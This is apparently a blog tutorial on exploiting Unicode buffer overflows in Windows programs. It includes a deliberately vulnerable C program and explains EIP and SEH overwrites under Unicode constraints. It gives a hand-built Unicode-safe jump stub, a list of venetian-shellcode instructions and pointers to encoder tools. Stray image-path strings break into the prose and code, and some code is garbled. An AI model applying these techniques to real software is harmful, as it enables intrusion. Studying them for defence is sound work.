EIP = 0×00410041 ?? Exploiting Unicode Buffer Overflows

Hello all =)

I’m writing this post in English (a poor English) because perhaps I will do some references to this article on others sites. But you can download theFrench version here : Unicode Buffer Overflows Exploitation – French Version.pdf

Introduction :

Maybe you’ve already encountered few problems when trying to exploit a buffer overflow, EIP = 0×00410041 for example while you have entered a string like this one : « AAAA… ». Maybe you don’t, but I think very interesting to understand when can we be confronted to this case and what it is due to.

Understanding Unicode Strings :

First of all I’m going to present you briefly the mechanism of Unicode Strings. Unicode strings have been created to ensure that all the languages can be used from any country without problems of transliteration. For example the Arabic characters are different from our. You understand thatthis chain مهمءضك cannot be converted according to the ASCII codes we know. With Unicode strings it is possible to use any kind of characters. You can have a great overview of Unicode characters here.

I won’t explain you moreabout Unicode Strings, I’m now going to show you how to use it.

Using Unicode Strings :

In C, it exists a list of functions to manipulate Unicode Strings on Windows : Unicode Functions.

Let us take a look to the conversion ASCII/Unicode functions :

    • MultiByteToWideChar() : ASCII -> Uniocde :
int MultiByteToWideChar(
UINT CodePage,
DWORD dwFlags,
LPCSTR lpMultiByteStr,
int cbMultiByte,
LPWSTR lpWideCharStr,
int cchWideChar
    • WideCharToMultiByte() : Unicode -> ASCII :
int WideCharToMultiByte(
  UINT CodePage,
  DWORD dwFlags,
  LPCWSTR lpWideCharStr,
  int cchWideChar,
  LPSTR lpMultiByteStr,
  int cbMultiByte,
  LPCSTR lpDefaultChar,
  LPBOOL lpUsedDefaultChar

I call your attention to the field CodePage :

[in] Code page used to perform the conversion.

You can set this parameter to any code page that is installed or available in the system. You can also specify one of the values shown in the following table.Value Description
CP_ACP ANSI code page
CP_MACCP Not supported
CP_OEMCP OEM code page
CP_SYMBOL Not supported
CP_THREAD_ACP Not supported
CP_UTF7 UTF-7 code page
CP_UTF8 UTF-8 code page

When SYSGEN_LOCUSA is set, only the 1252 and 437 code pages are supported.

To create an image that has very limited locale support, specify the image with SYSGEN_CORELOC and put the necessary locales for the image into Public\Common\Oak\Files\Nlscfg.inf.

When converting an ASCII chain to Unicode, the result will depend of the Code Page used. An example of conversion :

int main(int argc, char *argv[])wchar_t wcStr[56];
  char cStr[56];
  memcpy(cStr, "\xB0\x42\x43\x44", 4);
  MultiByteToWideChar(CP_OEMCP, 0, &cStr, 4, &wcStr, SIZE);
  printf("%ws", wcStr);
  return 0;Here I’m using the OEM code page.

Now let us have a look to the memory :


It seems that each character is followed by a NULL BYTE. In fact « ABCD »=41 42 43 44 becomes « A.B.C.D »=4100 4200 4300 4400.
Actually, characters less than 0×7F will follow this principle. But if you use a character above to 0×7F, it won’t necessarily be the case.
Indeed 0xB0=0×9125 in the OEM code page. You can find a great table of conversion here : Pratical Win32 and Unicode exploitation.
Ok now what about Unicode buffer overflows ?

Redirecting the program flow :

Rewriting the RET address :

This is an example of a program which will crash because of a stack overflow with Unicode strings :#define SIZE 56
int main(int argc, char *argv[])
  wchar_t wcBofMe[1];
  wchar_t wcStr[SIZE];
  char cStr[SIZE];
  memcpy(cStr, "\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41", SIZE);
  MultiByteToWideChar(CP_OEMCP, 0, &cStr, SIZE, &wcStr, SIZE);
  wcscpy(wcBofMe, wcStr); // Willcrash
  return 0;

When running this program, it crash and EIP is 0×41004100 :


Well we clearly see that we can overwrite only 2 bytes of the 4 that constitute the EIP register. What is a real problem, it is difficult to find a JMP ESP for example at an address like 0xyy00zz00.

Butremember what I said, some bytes (>0×7F) have special translation in Unicode with the OEM code page. For example 0xC0 = 0×1425. So I’ve modified my chain and I obtain :


So it means that we can actually overwrite the 4 bytes of the EIP. There is a plugin for OllyDBG which allow you to find addresses with unicode format (0xyy00zz00) of JMP ESP, CALL ESP, … It is OllyUNI. And another plugin exists for Immunity Debugger :  pvefindaddr.

Seh rewriting :

We know that exists an other method to redirect the program flow : the SEH Overwriting. Well with Unicode string, the principle will be the same (Overwrite SEH Handler address with a pointer to a POP POP RET instruction sequence) but we won’t be able to use a JMP SHORT. Writing a JMP SHORT with Unicode string is almost impossible. And it depend to much of the Code Page used.

So the principle will be to don’t make a JMP SHORT but let the program execute normally the instructions contained in Next SEH and SEH Handler hoping it won’t crash. Then, if this instructions don’t cause any harm, we will be able to execute a shellcode situated after the SEH structure. I know it is a bit difficult to understand so just look at this schema :


For steps 1 and 2 there is no problem.

But the step 3 is more tricky and require two conditions :

      •The address of Next SEH when executed mustn’t cause a harm.
      • Similarly, the address of SEH Handler mustn’t raise an exception when executed.

I give you an example ofaddress which can cause a bug :0×41560020

0020           ADD BYTE PTR DS:[EAX],AH
56             PUSH ESI
41             INC ECX

Here, if EAX contains a value like 0×00000000, an exception « Access violation » is raised when executing


Exploiting Unicode Buffer Overflows :

RET on ASCII shellcode :

When we convert an ASCII string to an Unicode one, it still stay the ASCII string in memory. So if we can jump on it, we will be able to execute a « normal » shellcode.  But how can we make a jump ? As I told you before, it is almost impossible to makea jump with a unicode shellcode…

Well we have to find another solution. I offer you to read this paper dealingwith the instructions we can use with unicode constraints : Building IA32 ‘Unicode-Proof’ Shellcodes.

In my case I want to jump to the address 0×0022FD88 which points to my ASCII shellcode.

So I will use this unicode shellcode :

0040139D     B8 00220000    MOV EAX,2200 ; EAX = 00002200
004013A2     50             |PUSH EAX
004013A3     4C             DEC ESP
004013A4     58             POP EAX ; EAX = 002200??
004013A5     05 00FD0000    ADD EAX,0FD00 ; EAX = 0022FD??
004013AF     B0 00          MOV AL,0 ; EAX = 0022FD00
004013AA     B9 00880000    MOV ECX,8800 ; ECX = 00008800004013B1     00E8           ADD AL,CH ; EAX = 0022FD88
00401284     50            PUSH EAX
00401285     C3            RETN

Well if I can give you some advices, when you have an address like 0xTTUUVVWW, begin by set TT, then UU, … It is really less complicated.

Then  it is important to understand how to « play » with the ESP register and POP/PUSH instructions. Now if you consider my string :

B8 00 22 00 00 50 4C 58 05 00 FD 00 00 B0 00 B9 00 88 00 00 00 E8, you see that there is no null byte between 50 and 4C for example.
Well it is not critical. In fact there are instructions which opcodes look like this : 00 XX 00. In my case I will use :

004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH

So I obtain this shellcode :

0040139D     B8 00220000    MOV EAX,2200 ; EAX = 00002200
004013A2     50             |PUSH EAX
004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH
004013A3     4C             DEC ESP
004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH
004013A4     58             POP EAX ; EAX = 002200??
004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH
004013A5     05 00FD0000    ADD EAX,0FD00 ; EAX = 0022FD??
004013AF     B0 00          MOV AL,0 ; EAX = 0022FD00
004013AA     B9 00880000    MOV ECX,8800 ; ECX = 00008800
004013B1     00E8           ADD AL,CH ; EAX = 0022FD88
004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH00401284     50            PUSH EAX
004013C6     0072 00        ADD BYTE PTR DS:[EDX],DH
00401285     C3            RETN

Now my string is ok. We just have to build an ASCII shellcode.

Using a decoder :

But imagine the case you can’t return on your ASCII string. You will be obliged to make an unicode shellcode. But writing a shellcode in unicode is too much difficult. Nevertheless it exists a technique based on Venetian Shellcodes. There are some tools like alpha2 which encode an ASCII Shellcode to a Unicode one which will be decoded by a decoder (unicode compatible). After the decoder has been executed we just have to jump on the original shellcode. But this method require one condition :

      • A least one register and it is better two, EAX and ECX for example, have to point one to the encoded shellcode and the other to a writeable memory space. However it is possible with just one register that points to the encoded shellcode which will be modified by itself.

Nonetheless you will ask me why do we need a register which points to the shellcode ?? Well, as I told you, there are few instructions which opcodes looks like this : 00 XX 00. That is instructions we can use. And these instructions are similar to this one I’ve already used :0072 00        ADD BYTE PTR DS:[EDX],DH

In this case, if EDX points to our shellcode, we are able to modify it via DH.
Here is a little list of instructions of this kind :CPU Disasm
Address   Hex dump          Command                                  Comments
00401220      0060 00       ADD BYTE PTR DS:[EAX],AH
00401223      0061 00       ADD BYTE PTR DS:[ECX],AH
00401226      0062 00       ADD BYTE PTR DS:[EDX],AH
00401229      0063 00       ADD BYTE PTR DS:[EBX],AH
0040123E      006A 00       ADD BYTE PTR DS:[EDX],CH
00401241      006B 00       ADD BYTE PTR DS:[EBX],CH
00401253      0071 00       ADD BYTE PTR DS:[ECX],DH
00401256      0072 00       ADD BYTE PTR DS:[EDX],DH
00401259      0073 00       ADD BYTE PTR DS:[EBX],DH
00401262      0076 00       ADD BYTE PTR DS:[ESI],DH
00401265      0078 00       ADD BYTE PTR DS:[EAX],BH00401268      0079 00       ADD BYTE PTR DS:[ECX],BH
0040126B      007A 00       ADD BYTE PTR DS:[EDX],BH
0040126E      007B 00       ADD BYTE PTR DS:[EBX],BH
00401277      007E 00       ADD BYTE PTR DS:[ESI],BH
0040127A      007F 00       ADD BYTE PTR DS:[EDI],BH

These instructions can be very useful when adjusting the unicode shellcode for make a jump to the ascii string (previous method).


I’m sorry to don’t illustrate my talk but I don’t have the time. Maybe I will give you some examples soon in a post.

This article was a very short approach to the Unicode Buffer Overflows, so I will end by offering you an excellent paper about this topic,really more comprehensive : Exploit writingtutorial part 7 : Unicode – from 0×00410041 to calc by Peter Van Eeckhoutte.

Some Unicode BufferOverflows exploits :

  1. Aucun commentaire pour l'instant

Lescommentaires sont fermés